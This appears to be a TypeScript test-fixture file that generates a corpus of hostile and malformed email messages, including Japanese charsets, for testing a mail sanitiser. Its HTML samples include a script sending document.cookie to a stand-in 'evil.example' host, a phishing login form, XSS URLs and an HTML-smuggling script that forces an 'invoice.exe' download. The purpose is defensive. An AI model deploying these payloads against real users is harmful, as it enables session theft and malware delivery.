import { createHash } from "node:crypto";
import type {
	AttachmentInput,
	AttachmentOutcome,
	SanitizePolicy,
} from "../../src/modules/sanitize/sanitize.contract.ts";
import { encodeShiftJis } from "./shift-jis.ts";

/**
 * Test mail, generated: hostile HTML, broken structure, Japanese charsets, nesting and the EICAR
 * file. Encoders are built from the platform's decoders (TextDecoder), so they check the engine's
 * decoding against an independent implementation.
 */

export const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
export const JUMINHYO = "住民票の写しについて";
export const JAPANESE_BODY =
	"総務課　御中\n\n住民票の写しの交付について、申請書を送付いたします。\n手数料は１通３００円です。①②③も確認してください。\n";

let jisTable: Map<string, [number, number]> | undefined;

/** JIS X 0208 row/cell bytes (0x21–0x7E) of each character, read off the EUC-JP decoder. */
function jis(): Map<string, [number, number]> {
	if (jisTable) return jisTable;
	jisTable = new Map();
	const decoder = new TextDecoder("euc-jp");
	for (let lead = 0xa1; lead <= 0xfe; lead++) {
		for (let trail = 0xa1; trail <= 0xfe; trail++) {
			const char = decoder.decode(new Uint8Array([lead, trail]));
			if (char.length === 1 && char !== "\uFFFD" && !jisTable.has(char))
				jisTable.set(char, [lead - 0x80, trail - 0x80]);
		}
	}
	return jisTable;
}

/** Encode as EUC-JP (JIS X 0208 only). */
export function encodeEucJp(text: string): Buffer {
	const bytes: number[] = [];
	for (const char of text) {
		const code = char.codePointAt(0) ?? 0;
		if (code < 0x80) bytes.push(code);
		else {
			const pair = jis().get(char);
			if (!pair) throw new Error(`cannot encode ${char} in EUC-JP`);
			bytes.push(pair[0] + 0x80, pair[1] + 0x80);
		}
	}
	return Buffer.from(bytes);
}

/** Encode as ISO-2022-JP: ESC $ B for JIS X 0208 runs, ESC ( B back to ASCII. */
export function encodeIso2022Jp(text: string): Buffer {
	const bytes: number[] = [];
	let kanji = false;
	for (const char of text) {
		const code = char.codePointAt(0) ?? 0;
		if (code < 0x80) {
			if (kanji) bytes.push(0x1b, 0x28, 0x42);
			kanji = false;
			bytes.push(code);
		} else {
			const pair = jis().get(char);
			if (!pair) throw new Error(`cannot encode ${char} in ISO-2022-JP`);
			if (!kanji) bytes.push(0x1b, 0x24, 0x42);
			kanji = true;
			bytes.push(pair[0], pair[1]);
		}
	}
	if (kanji) bytes.push(0x1b, 0x28, 0x42);
	return Buffer.from(bytes);
}

export function encodeSjis(text: string): Buffer {
	return Buffer.from(encodeShiftJis(text));
}

/** An RFC 2047 encoded word. */
export function encodedWord(bytes: Buffer, charset: string, encoding: "B" | "Q" = "B"): string {
	if (encoding === "B") return `=?${charset}?B?${bytes.toString("base64")}?=`;
	const q = [...bytes]
		.map((b) =>
			b > 0x20 && b < 0x7f && b !== 0x3d && b !== 0x3f && b !== 0x5f
				? String.fromCharCode(b)
				: `=${b.toString(16).toUpperCase().padStart(2, "0")}`,
		)
		.join("");
	return `=?${charset}?Q?${q}?=`;
}

function base64Lines(content: Buffer): string {
	return content.toString("base64").replace(/.{76}/g, "$&\r\n");
}

const HEAD =
	"From: =?UTF-8?B?5biC5rCR6Kqy?= <shimin@example.jp>\r\nTo: soumu@city.example.lg.jp\r\nDate: Tue, 2 Apr 2024 10:00:00 +0900\r\nMIME-Version: 1.0\r\n";

function message(subject: string, rest: string): Buffer {
	return Buffer.from(
		`${HEAD}Subject: ${subject}\r\nMessage-ID: <${createHash("md5")
			.update(subject + rest)
			.digest("hex")}@example.jp>\r\n${rest}`,
		"utf8",
	);
}

function binaryMessage(subject: string, headers: string, body: Buffer): Buffer {
	return Buffer.concat([message(subject, `${headers}\r\n`), body]);
}

function attachmentPart(boundary: string, name: string, type: string, content: Buffer): string {
	return `--${boundary}\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(content)}\r\n`;
}

export const HOSTILE_HTML = `<!DOCTYPE html><html><head><title>請求書</title><meta http-equiv="refresh" content="0;url=https://evil.example/"><style>body{background:url(https://evil.example/bg.png)}</style>
<script>document.location="https://evil.example/steal?c="+document.cookie</script></head>
<body onload="alert(1)"><h1>請求書のお知らせ</h1><p onclick="evil()">お支払いは<a href="https://pay.evil.example/invoice?id=1">こちら</a>から。</p>
<p><a href="javascript:alert(document.domain)">詳細</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">開く</a> <a href="JaVaScRiPt&colon;alert(2)">確認</a></p>
<iframe src="https://evil.example/frame"></iframe><img src="https://tracker.example/pixel.gif" onerror="alert(3)" alt="ロゴ">
<img src="data:image/png;base64,iVBORw0KGgo=" alt=""><form action="https://evil.example/login" method="post"><input type="password" name="pw"><button onclick="send()">ログイン</button></form>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><svg onload="alert(4)"><script>alert(5)</script></svg>
<table><tr><th>品目</th><th>金額</th></tr><tr><td>住民票</td><td>300円</td></tr><tr><td>印鑑証明</td><td>300円</td></tr></table>
<ul><li>一つ目</li><li>二つ目</li></ul><p>&lt;script&gt;alert(6)&lt;/script&gt; と書かれた文字列</p></body></html>`;

export const SMUGGLING_HTML = `<html><body><p>添付ファイルを開いています…</p><script>
var b64="TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAA";var bin=atob(b64);var a=new Uint8Array(bin.length);for(var i=0;i<bin.length;i++){a[i]=bin.charCodeAt(i);}
var blob=new Blob([a],{type:"application/octet-stream"});var url=URL.createObjectURL(blob);var l=document.createElement("a");l.href=url;l.download="invoice.exe";document.body.appendChild(l);l.click();
</script><a href="#" onclick="return false" download="invoice.exe">ダウンロードされない場合はこちら</a></body></html>`;

/** An executable's first bytes: enough for any type sniffer to call it one. */
export const EXE = Buffer.concat([
	Buffer.from("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", "latin1"),
	Buffer.alloc(200, 0),
]);

/** `message/rfc822` wrapped `depth` times around a small message. */
export function nestedMessage(
	depth: number,
	inner = "Subject: innermost\r\nContent-Type: text/plain\r\n\r\nhttp://inner.example/\r\n",
): Buffer {
	let raw = inner;
	for (let i = 0; i < depth; i++) {
		raw = `Subject: level ${depth - i}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="L${i}"\r\n\r\n--L${i}\r\nContent-Type: text/plain\r\n\r\nforwarded ${i}\r\n--L${i}\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename="fwd${i}.eml"\r\n\r\n${raw}\r\n--L${i}--\r\n`;
	}
	return Buffer.concat([Buffer.from(HEAD, "latin1"), Buffer.from(raw, "latin1")]);
}

/** One multipart/mixed with `count` tiny text parts. */
export function manyParts(count: number): Buffer {
	const parts: string[] = [];
	for (let i = 0; i < count; i++)
		parts.push(`--P\r\nContent-Type: text/plain\r\n\r\npart ${i}\r\n`);
	return message(
		"many parts",
		`Content-Type: multipart/mixed; boundary="P"\r\n\r\n${parts.join("")}--P--\r\n`,
	);
}

/** A format=flowed body of about `bytes` bytes: long paragraphs soft-broken every 70 columns. */
export function flowedMessage(bytes: number): Buffer {
	const line = "This paragraph is soft-broken the way format=flowed writers do it ";
	const lines: string[] = [];
	let size = 0;
	let n = 0;
	while (size < bytes) {
		const text = n % 20 === 19 ? "end of paragraph.\r\n" : `${line}\r\n`;
		lines.push(text);
		size += text.length;
		n++;
	}
	return message(
		"flowed",
		`Content-Type: text/plain; charset=us-ascii; format=flowed\r\n\r\n${lines.join("")}`,
	);
}

export interface CorpusItem {
	name: string;
	raw: Buffer;
	/** The expected status when attachments are decided by `stubAttachments`. */
	expect: "sanitized" | "held";
	/** Text the delivered body must contain (exactly, after decoding). */
	bodyIncludes?: string[];
	subject?: string;
	/** A substring of the held reason. */
	reason?: string;
	/** Carries attachments: with the real sanitisers the outcome may differ from `expect`. */
	attachments?: boolean;
}

/**
 * The corpus the sanitising tests and the fuzzer start from.
 *
 * @example
 * for (const item of mailCorpus()) await sanitizeMessage(item.raw, DEFAULT_POLICY);
 */
export function mailCorpus(): CorpusItem[] {
	const subjectJis = encodedWord(encodeIso2022Jp(JUMINHYO), "ISO-2022-JP");
	const subjectSjis = encodedWord(encodeSjis(JUMINHYO), "Shift_JIS");
	const subjectEuc = encodedWord(encodeEucJp(JUMINHYO), "EUC-JP", "Q");
	const pdf = Buffer.from("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "latin1");
	return [
		{
			name: "hostile HTML (script, iframe, form, handlers, data: and javascript: URLs)",
			raw: message(
				"請求書",
				`Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(Buffer.from(HOSTILE_HTML))}\r\n`,
			),
			expect: "sanitized",
			bodyIncludes: [
				"請求書のお知らせ",
				"お支払いはこちら [hxxps://pay.evil.example/invoice?id=1]",
				"住民票",
				"300円",
				"一つ目",
			],
		},
		{
			name: "HTML smuggling (script builds a Blob download)",
			raw: message("添付", `Content-Type: text/html; charset=utf-8\r\n\r\n${SMUGGLING_HTML}\r\n`),
			expect: "sanitized",
			bodyIncludes: ["添付ファイルを開いています"],
		},
		{
			name: "multipart/alternative text + html",
			raw: message(
				"alt",
				`Content-Type: multipart/alternative; boundary="ALT"\r\n\r\n--ALT\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=E3=81=93=E3=82=93=E3=81=AB=E3=81=A1=E3=81=AF https://example.jp/page\r\n--ALT\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p onmouseover="x()">こんにちは <a href="https://example.jp/page">page</a></p><script>alert(1)</script>\r\n--ALT--\r\n`,
			),
			expect: "sanitized",
			bodyIncludes: ["こんにちは hxxps://example.jp/page"],
		},
		{
			name: "ISO-2022-JP body and encoded-word subject",
			raw: binaryMessage(
				subjectJis,
				"Content-Type: text/plain; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 7bit\r\n",
				encodeIso2022Jp(JAPANESE_BODY.replace(/\n/g, "\r\n")),
			),
			expect: "sanitized",
			subject: JUMINHYO,
			bodyIncludes: [JAPANESE_BODY.trimEnd()],
		},
		{
			name: "Shift_JIS body and encoded-word subject",
			raw: binaryMessage(
				subjectSjis,
				"Content-Type: text/plain; charset=Shift_JIS\r\nContent-Transfer-Encoding: 8bit\r\n",
				encodeSjis(JAPANESE_BODY.replace(/\n/g, "\r\n")),
			),
			expect: "sanitized",
			subject: JUMINHYO,
			bodyIncludes: [JAPANESE_BODY.trimEnd()],
		},
		{
			name: "EUC-JP body (base64) and Q-encoded subject",
			raw: message(
				subjectEuc,
				`Content-Type: text/plain; charset=EUC-JP\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(encodeEucJp(JAPANESE_BODY.replace(/①②③/, "")))}\r\n`,
			),
			expect: "sanitized",
			subject: JUMINHYO,
			bodyIncludes: [JAPANESE_BODY.replace(/①②③/, "").trimEnd()],
		},
		{
			name: "undeclared Shift_JIS body",
			raw: binaryMessage(
				"no charset",
				"Content-Type: text/plain\r\n",
				encodeSjis("住民票の写し\r\n"),
			),
			expect: "sanitized",
			bodyIncludes: ["住民票の写し"],
		},
		{
			name: "plain text with links of every kind",
			raw: message(
				"links",
				"Content-Type: text/plain; charset=utf-8\r\n\r\nhttp://a.example/ HTTPS://B.example/x ftp://c.example/ javascript:alert(1) data:text/html,<script>x</script> <iframe src=x onload=y>\r\n",
			),
			expect: "sanitized",
			bodyIncludes: ["hxxp://a.example/", "hxxps://B.example/x", "javascript[:]alert(1)"],
		},
		{
			name: "huge format=flowed body",
			raw: flowedMessage(2 * 1024 * 1024),
			expect: "sanitized",
			bodyIncludes: ["do it This paragraph"],
		},
		{
			name: "missing final boundary",
			raw: message(
				"truncated",
				`Content-Type: multipart/mixed; boundary="M"\r\n\r\n--M\r\nContent-Type: text/plain\r\n\r\nfirst part\r\n--M\r\nContent-Type: text/plain\r\n\r\nsecond part, never closed\r\n`,
			),
			expect: "sanitized",
			bodyIncludes: ["first part", "second part, never closed"],
		},
		{
			name: "duplicate Content-Type headers that disagree",
			raw: message(
				"dup",
				"Content-Type: text/plain; charset=utf-8\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<script>alert(1)</script>\r\n",
			),
			expect: "held",
			reason: "conflicting Content-Type",
		},
		{
			name: "duplicate Content-Type headers that agree",
			raw: message(
				"dup ok",
				'Content-Type: text/plain; charset=utf-8\r\nContent-Type: text/plain; charset="utf-8"\r\n\r\nsame twice\r\n',
			),
			expect: "sanitized",
			bodyIncludes: ["same twice"],
		},
		{
			name: "RFC 2231 and RFC 2047 file names that disagree",
			raw: message(
				"names",
				`Content-Type: multipart/mixed; boundary="F"\r\n\r\n--F\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--F\r\nContent-Type: application/pdf; name="=?UTF-8?B?${Buffer.from("請求書.pdf").toString("base64")}?="\r\nContent-Disposition: attachment; filename*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.exe\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(EXE)}\r\n--F--\r\n`,
			),
			attachments: true,
			expect: "sanitized",
			bodyIncludes: ["請求書.exe"],
		},
		{
			name: "UTF-8 RFC 2231 file name on a PDF",
			raw: message(
				"pdf",
				`Content-Type: multipart/mixed; boundary="G"\r\n\r\n--G\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n資料です\r\n--G\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename*=UTF-8''%E8%B3%87%E6%96%99.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(pdf)}\r\n--G--\r\n`,
			),
			attachments: true,
			expect: "sanitized",
			bodyIncludes: ["資料です"],
		},
		{
			name: "executable named as a PDF",
			raw: message(
				"invoice",
				`Content-Type: multipart/mixed; boundary="X"\r\n\r\n--X\r\nContent-Type: text/plain\r\n\r\ninvoice attached\r\n${attachmentPart("X", "invoice.pdf", "application/pdf", EXE)}--X--\r\n`,
			),
			attachments: true,
			expect: "sanitized",
			bodyIncludes: ["invoice.pdf", createHash("sha256").update(EXE).digest("hex")],
		},
		{
			name: "EICAR test file named .txt",
			raw: message(
				"eicar",
				`Content-Type: multipart/mixed; boundary="E"\r\n\r\n--E\r\nContent-Type: text/plain\r\n\r\nplease check\r\n${attachmentPart("E", "readme.txt", "text/plain", Buffer.from(EICAR))}--E--\r\n`,
			),
			attachments: true,
			expect: "held",
			reason: "EICAR",
		},
		{
			name: "message/rfc822 nested 3 deep",
			raw: nestedMessage(3),
			expect: "sanitized",
			bodyIncludes: ["forwarded 2"],
		},
		{
			name: "message/rfc822 nested 100 deep",
			raw: nestedMessage(100),
			expect: "held",
			reason: "nesting",
		},
		{
			name: "10,000 parts",
			raw: manyParts(10_000),
			expect: "held",
			reason: "MIME parts",
		},
		{
			name: "S/MIME encrypted",
			raw: message(
				"secret",
				`Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(Buffer.from("not really encrypted"))}\r\n`,
			),
			expect: "held",
			reason: "encrypted",
		},
		{
			name: "multipart without a boundary",
			raw: message("broken", "Content-Type: multipart/mixed\r\n\r\n--x\r\n\r\nhello\r\n"),
			expect: "held",
			reason: "boundary",
		},
	];
}

/**
 * A stand-in for the attachment sanitisers with fixed rules, so the message tests do not depend on
 * their progress: PDF passes, plain text passes, executables and HTML are removed, the rest too.
 */
export async function stubAttachments(
	inputs: readonly AttachmentInput[],
	_policy: SanitizePolicy,
): Promise<AttachmentOutcome[]> {
	return inputs.map((input) => {
		const head = input.content.subarray(0, 8).toString("latin1");
		const sha256 = createHash("sha256").update(input.content).digest("hex");
		const base = { filename: input.filename, size: input.content.length, sha256, findings: [] };
		if (head.startsWith("%PDF")) {
			return {
				...base,
				trueType: "application/pdf",
				category: "pdf",
				action: "passed",
				reason: "stub",
				output: {
					filename: input.filename,
					contentType: "application/pdf",
					content: input.content,
				},
			};
		}
		if (head.startsWith("MZ")) {
			return {
				...base,
				trueType: "application/x-msdownload",
				category: "executable",
				action: "removed",
				reason: "executables are never delivered",
				reasonCode: "category_never",
				reasonParams: { category: "executable" },
			};
		}
		if (
			!/[^\t\n\r\x20-\x7e]/.test(input.content.toString("latin1")) &&
			!/<[a-z!]/i.test(input.content.toString("latin1"))
		) {
			return {
				...base,
				trueType: "text/plain",
				category: "text",
				action: "passed",
				reason: "stub",
				output: { filename: input.filename, contentType: "text/plain", content: input.content },
			};
		}
		return {
			...base,
			trueType: "application/octet-stream",
			category: "unknown",
			action: "removed",
			reason: "unknown type",
		};
	});
}
